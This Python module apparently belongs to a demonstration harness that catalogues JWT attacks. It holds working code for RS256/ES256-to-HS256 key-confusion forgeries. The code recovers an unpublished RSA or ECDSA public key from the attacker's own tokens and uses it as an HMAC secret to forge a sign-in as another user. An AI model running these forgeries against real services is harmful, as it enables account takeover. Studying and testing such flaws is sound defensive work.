"""Recovering a public key that is not published, from what the bank
signed for Mallory herself.  Then it serves as a secret.
"""

import base64
import hashlib
import math
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from demo.attacks.base import Attack, Attacker
from demo.attacks.forgery import (
    alices_claims,
    header,
    sealed,
    with_token,
)
from demo.contenders import contender
from demo.harness import Client, NotApplicable
from demo.keys import Key
from demo.unsafe import p256
from demo.unsafe.loose_checks import SHA256_PREFIX
from demo.unsafe.trusting import MIXES_KEYS


def by(attacker: Attacker, algorithm: str) -> dict[str, Any]:
    """Alice's claims, where tokens are signed by this algorithm."""
    claims = alices_claims(attacker)
    if attacker.service.contender.algorithm != algorithm:
        raise NotApplicable(f"the key is not for {algorithm}")
    return claims


def own_token(attacker: Attacker) -> tuple[bytes, bytes]:
    """A new sign-in of Mallory's: what was signed, and the signature."""
    return apart(attacker.service.signed_in("mallory").credential())


def apart(token: str) -> tuple[bytes, bytes]:
    signed, _, last = token.rpartition(".")
    return signed.encode(), base64.urlsafe_b64decode(last + "==")


def excess(signed: bytes, signature: bytes, size: int) -> int:
    """What the signature's cube is above the block that was signed: a
    multiple of the modulus.  Source: RFC 8017 section 9.2."""
    end = b"\x00" + SHA256_PREFIX + hashlib.sha256(signed).digest()
    block = b"\x00\x01" + end.rjust(size - 2, b"\xff")
    return int(int.from_bytes(signature) ** 3 - int.from_bytes(block))


def forge_by_modulus(attacker: Attacker) -> Client:
    """Two tokens give two multiples of n; n divides both."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    claims = by(attacker, "RS256, e=3")
    tokens = [own_token(attacker) for _ in range(2)]
    n = math.gcd(*(excess(*token, len(token[1])) for token in tokens))
    while n.bit_length() > 8 * len(tokens[0][1]):
        n //= next(small for small in range(2, 2**16) if n % small == 0)
    found = rsa.RSAPublicNumbers(3, n).public_key()
    key = Key("RS256", "", None, found)
    return with_token(attacker, sealed(key.pem(), claims, header()))


def forge_by_point(attacker: Attacker) -> Client:
    """One ECDSA signature leaves two points to try."""
    claims = by(attacker, "ES256")
    for key in candidates(*own_token(attacker)):
        token = sealed(key.pem(), claims, header())
        forged = with_token(attacker, token)
        if forged.me() == "alice":
            break
    return forged


def candidates(signed: bytes, signature: bytes) -> Iterator[Key]:
    """The public keys for which it is a signature.
    Source: SEC 1 version 2.0 section 4.1.6."""
    from cryptography.hazmat.primitives.asymmetric import ec

    r, s = p256.split(signature)
    root = pow(r**3 - 3 * r + p256.B, (p256.P + 1) // 4, p256.P)
    back, digest = p256.inverse(r, p256.N), p256.hashed(signed)
    for y in (root, p256.P - root):
        point = p256.both(
            -digest * back % p256.N, p256.G, s * back % p256.N, (r, y, 1)
        )
        numbers = ec.EllipticCurvePublicNumbers(
            *p256.affine(point), ec.SECP256R1()
        )
        yield Key("ES256", "", None, numbers.public_key())


UNPUBLISHED_RSA = Attack(
    id="confusion-unpublished-rsa",
    name="RS256 to HS256, by a key from two tokens",
    claim="An RSA key that is not published is computed from two tokens.",
    family="signature",
    source="RFC 8725 section 2.1, RFC 8017 section 8.2, CWE-347",
    forge=forge_by_modulus,
    fixed=replace(
        contender("JWT RS256"),
        name="JWT RS256, exponent 3",
        algorithm="RS256, e=3",
    ),
    flip=MIXES_KEYS,
)
UNPUBLISHED_EC = Attack(
    id="confusion-unpublished-ec",
    name="ES256 to HS256, by a key from one token",
    claim="An ECDSA key that is not published is computed from one token.",
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_by_point,
    fixed=contender("JWT ES256"),
    flip=MIXES_KEYS,
)
RECOVERING_ATTACKS = (UNPUBLISHED_RSA, UNPUBLISHED_EC)
